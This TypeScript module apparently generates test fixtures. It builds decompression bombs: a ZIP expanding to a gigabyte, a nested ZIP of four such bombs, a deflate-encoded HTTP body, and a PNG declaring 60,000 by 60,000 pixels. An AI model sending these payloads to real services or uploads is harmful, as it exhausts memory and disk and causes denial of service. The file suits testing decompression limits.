import { crc32, constants, deflateRawSync, deflateSync } from 'node:zlib';

const MEGABYTE = 1024 * 1024;

/** Zeros, compressed to about a thousandth; a piece can be repeated, because it ends on a whole byte and looks back at nothing. */
const PIECE = Buffer.alloc(16 * MEGABYTE);
const compressedPiece = () => deflateRawSync(PIECE, { finishFlush: constants.Z_FULL_FLUSH });
const END = deflateRawSync(Buffer.alloc(0));

interface Stored {
	name: string;
	method: 'stored' | 'deflated';
	data: Buffer;
	size: number;
	checksum: number;
}

/** A ZIP archive with these files. */
function zip(files: Stored[]): Buffer {
	const parts: Buffer[] = [];
	const directory: Buffer[] = [];
	let offset = 0;
	for (const { name, method, data, size, checksum } of files) {
		const about = Buffer.alloc(26);
		about.writeUInt16LE(20, 0);
		about.writeUInt16LE(method === 'deflated' ? 8 : 0, 4);
		about.writeUInt32LE(checksum, 10);
		about.writeUInt32LE(data.length, 14);
		about.writeUInt32LE(size, 18);
		about.writeUInt16LE(name.length, 22);
		const place = Buffer.alloc(14);
		place.writeUInt32LE(offset, 10);
		directory.push(Buffer.from('PK\x01\x02\x14\0', 'latin1'), about, place, Buffer.from(name));
		const local = [Buffer.from('PK\x03\x04', 'latin1'), about, Buffer.from(name), data];
		parts.push(...local);
		offset += local.reduce((sum, part) => sum + part.length, 0);
	}
	const listed = Buffer.concat(directory);
	const end = Buffer.alloc(22);
	end.write('PK\x05\x06', 'latin1');
	end.writeUInt16LE(files.length, 8);
	end.writeUInt16LE(files.length, 10);
	end.writeUInt32LE(listed.length, 12);
	end.writeUInt32LE(offset, 16);
	return Buffer.concat([...parts, listed, end]);
}

/** An archive of about one megabyte with a file of a gigabyte. */
export function zipBomb(): Buffer {
	const pieces = 64;
	const piece = compressedPiece();
	let checksum = 0;
	for (let count = 0; count < pieces; count++) checksum = crc32(PIECE, checksum);
	return zip([{ name: 'zeros', method: 'deflated', data: Buffer.concat([...Array.from({ length: pieces }, () => piece), END]), size: pieces * PIECE.length, checksum }]);
}

/** An archive of archives, three deep, with four bombs in it. */
export function nestedZipBomb(): Buffer {
	const around = (name: string, data: Buffer): Stored => ({ name, method: 'stored', data, size: data.length, checksum: crc32(data) });
	const bomb = zipBomb();
	const middle = zip(Array.from({ length: 4 }, (_, number) => around(`${number}.zip`, bomb)));
	return zip([around('all.zip', middle)]);
}

/** A body of one megabyte that is a gigabyte for whoever takes its `Content-Encoding: deflate` at its word. */
export const deflateBomb = (): Buffer => {
	const piece = compressedPiece();
	return Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array.from({ length: 64 }, () => piece), END]);
};

const chunk = (type: string, data: Buffer): Buffer => {
	const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
	const length = Buffer.alloc(4);
	length.writeUInt32BE(data.length);
	const checksum = Buffer.alloc(4);
	checksum.writeUInt32BE(crc32(body));
	return Buffer.concat([length, body, checksum]);
};

/** A picture of half a megabyte, 60,000 points wide and high: 450 MB at one bit for a point, and 14 GB as a program shows it. */
export function pictureBomb(): Buffer {
	const side = 60_000;
	const header = Buffer.alloc(13);
	header.writeUInt32BE(side, 0);
	header.writeUInt32BE(side, 4);
	header[8] = 1;
	const lines = deflateSync(Buffer.alloc(side * (1 + side / 8)));
	return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', header), chunk('IDAT', lines), chunk('IEND', Buffer.alloc(0))]);
}
